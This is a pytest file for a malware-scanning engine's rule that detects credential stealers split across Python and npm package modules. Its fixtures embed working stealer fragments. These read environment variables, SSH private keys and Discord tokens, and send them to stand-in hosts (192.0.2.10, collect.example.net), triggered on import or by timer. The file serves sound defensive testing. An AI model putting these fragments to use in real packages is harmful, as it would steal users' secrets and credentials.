"""Stealers split across modules, on small synthetic sdists (reserved example hosts and
documentation addresses; nothing is ever run), and SDKs whose modules merely coexist."""

from __future__ import annotations

from tests.analysis.builders import npm_tarball, run_rule, sdist
from threatfeed.analysis import Engine
from threatfeed.analysis.rules.cross_module import cross_module_exfiltration_rule

COLLECT = (
    "import glob, json, os\n\n"
    "def gather():\n"
    "    found = {'env': json.dumps(dict(os.environ))}\n"
    "    for path in glob.glob(os.path.expanduser('~/.ssh/id_*')):\n"
    "        found[path] = open(path).read()\n"
    "    return found\n"
)
SEND = (
    "import socket\n\n"
    "def push(blob):\n"
    "    s = socket.create_connection(('192.0.2.10', 8088))\n"
    "    s.sendall(blob)\n"
)
WIRE = (
    "import threading\n"
    "from . import collect\n"
    "from ..telemetry import client\n\n"
    "def start():\n"
    "    threading.Thread(target=lambda: client.push(str(collect.gather()).encode())).start()\n"
)


def _split(wire: str = WIRE) -> bytes:
    return sdist(
        {
            "tidy_strings/__init__.py": "from ._internal import boot as _boot\n_boot.start()\n",
            "tidy_strings/_internal/__init__.py": "",
            "tidy_strings/_internal/boot.py": wire,
            "tidy_strings/_internal/collect.py": COLLECT,
            "tidy_strings/telemetry/__init__.py": "",
            "tidy_strings/telemetry/client.py": SEND,
        }
    )


def test_a_module_that_wires_a_harvester_to_a_sender_flags(engine: Engine) -> None:
    archive = _split()
    root = "tidy-strings-0.4.0/tidy_strings/"
    assert run_rule(engine, cross_module_exfiltration_rule, archive) == [
        {
            "file": root + "_internal/boot.py",
            "harvests_in": root + "_internal/collect.py",
            "sends_in": root + "telemetry/client.py",
        }
    ]
    assert engine.analyze(archive).flagged


def test_absolute_self_imports_and_imported_functions_are_followed(engine: Engine) -> None:
    wire = (
        "from tidy_strings._internal.collect import gather\n"
        "import tidy_strings.telemetry.client as out\n\n"
        "def start():\n    out.push(repr(gather()).encode())\n"
    )
    evidence = run_rule(engine, cross_module_exfiltration_rule, _split(wire))
    assert [item["file"].rpartition("/")[2] for item in evidence] == ["boot.py"]


def test_a_module_that_imports_both_but_calls_neither_is_not_reported(engine: Engine) -> None:
    wire = "from . import collect\nfrom ..telemetry import client\n\n__all__ = ['collect']\n"
    assert run_rule(engine, cross_module_exfiltration_rule, _split(wire)) is None


def test_an_sdk_reading_its_config_and_calling_its_service_is_not_reported(
    engine: Engine,
) -> None:
    archive = sdist(
        {
            "tidy_strings/__init__.py": "from .session import Session\n",
            "tidy_strings/config.py": (
                "import configparser, os\n\ndef load():\n"
                "    parser = configparser.ConfigParser()\n"
                "    parser.read(os.path.expanduser('~/.aws/credentials'))\n"
                "    return parser\n"
            ),
            "tidy_strings/transport.py": (
                "import requests\n\ndef call(url, **kw):\n    return requests.post(url, **kw)\n"
            ),
            "tidy_strings/session.py": (
                "from . import config, transport\n\nclass Session:\n"
                "    def get(self, url):\n"
                "        return transport.call(url, auth=config.load()['default'])\n"
            ),
        }
    )
    assert run_rule(engine, cross_module_exfiltration_rule, archive) is None


def test_a_harvester_that_sends_itself_is_left_to_the_per_file_rule(engine: Engine) -> None:
    archive = sdist(
        {
            "tidy_strings/__init__.py": (
                "from . import collect, client\nclient.push(collect.gather())\n"
            ),
            "tidy_strings/collect.py": COLLECT + "\n" + SEND,
            "tidy_strings/client.py": SEND,
        }
    )
    assert run_rule(engine, cross_module_exfiltration_rule, archive) is None


def test_a_harvester_that_calls_the_sender_itself_flags(engine: Engine) -> None:
    collect = COLLECT + "\nfrom .client import push\npush(repr(gather()).encode())\n"
    archive = sdist(
        {
            "tidy_strings/__init__.py": "from . import collect\n",
            "tidy_strings/collect.py": collect,
            "tidy_strings/client.py": SEND,
        }
    )
    evidence = run_rule(engine, cross_module_exfiltration_rule, archive)
    assert [item["file"].rpartition("/")[2] for item in evidence] == ["collect.py"]


def test_imports_in_parentheses_with_comments_under_src_are_followed(engine: Engine) -> None:
    wire = (
        "from tidy_strings import (\n    collect,  # what to send\n    client as out,\n)\n"
        "def start():\n    out.push(repr(collect.gather()).encode())\n"
    )
    archive = sdist(
        {
            "src/aaa/__init__.py": "",
            "src/tidy_strings/__init__.py": "from .boot import start\nstart()\n",
            "src/tidy_strings/boot.py": wire,
            "src/tidy_strings/collect.py": COLLECT,
            "src/tidy_strings/client.py": SEND,
        }
    )
    evidence = run_rule(engine, cross_module_exfiltration_rule, archive)
    assert [item["file"].rpartition("/")[2] for item in evidence] == ["boot.py"]


JS_COLLECT = (
    "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\n\n"
    "function gather() {\n"
    "  const dir = path.join(os.homedir(), 'AppData/Roaming/discord/Local Storage/leveldb');\n"
    "  const found = {};\n"
    "  for (const name of fs.readdirSync(dir)) {\n"
    "    const text = fs.readFileSync(path.join(dir, name), 'utf8');\n"
    "    found[name] = text.match(/[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}/g);\n"
    "  }\n"
    "  return found;\n"
    "}\nmodule.exports = { gather };\n"
)
JS_SEND = (
    "const https = require('https');\n\n"
    "module.exports = function push(body) {\n"
    "  const req = https.request({ host: 'collect.example.net', method: 'POST', path: '/up' });\n"
    "  req.end(JSON.stringify(body));\n"
    "};\n"
)


def _js_split(wire: str) -> bytes:
    return npm_tarball({"index.js": wire, "lib/collect.js": JS_COLLECT, "lib/net/send.js": JS_SEND})


def test_a_javascript_module_that_wires_a_harvester_to_a_sender_flags(engine: Engine) -> None:
    wire = (
        "const { gather: g } = require('./lib/collect');\n"
        "const push = require('./lib/net/send.js');\n"
        "setTimeout(() => push(g()), 5000);\n"
    )
    archive = _js_split(wire)
    assert run_rule(engine, cross_module_exfiltration_rule, archive) == [
        {
            "file": "package/index.js",
            "harvests_in": "package/lib/collect.js",
            "sends_in": "package/lib/net/send.js",
        }
    ]


def test_javascript_imports_and_modules_called_where_required_are_followed(
    engine: Engine,
) -> None:
    wire = (
        "import * as c from './lib/collect.js';\n"
        "export default async function init() {\n"
        "  require('./lib/net/send')(c.gather());\n"
        "}\n"
    )
    evidence = run_rule(engine, cross_module_exfiltration_rule, _js_split(wire))
    assert [item["file"] for item in evidence] == ["package/index.js"]


def test_a_javascript_module_that_requires_both_but_calls_neither_is_not_reported(
    engine: Engine,
) -> None:
    wire = (
        "const collect = require('./lib/collect');\nconst send = require('./lib/net/send');\n"
        "module.exports = { collect, send };\n"
    )
    assert run_rule(engine, cross_module_exfiltration_rule, _js_split(wire)) is None


def test_javascript_requires_of_other_packages_are_not_followed(engine: Engine) -> None:
    wire = (
        "const { gather } = require('collect');\nconst push = require('lib/net/send');\n"
        "push(gather());\n"
    )
    archive = npm_tarball(
        {"index.js": wire, "node_modules/collect/index.js": JS_COLLECT, "lib/net/send.js": JS_SEND}
    )
    assert run_rule(engine, cross_module_exfiltration_rule, archive) is None
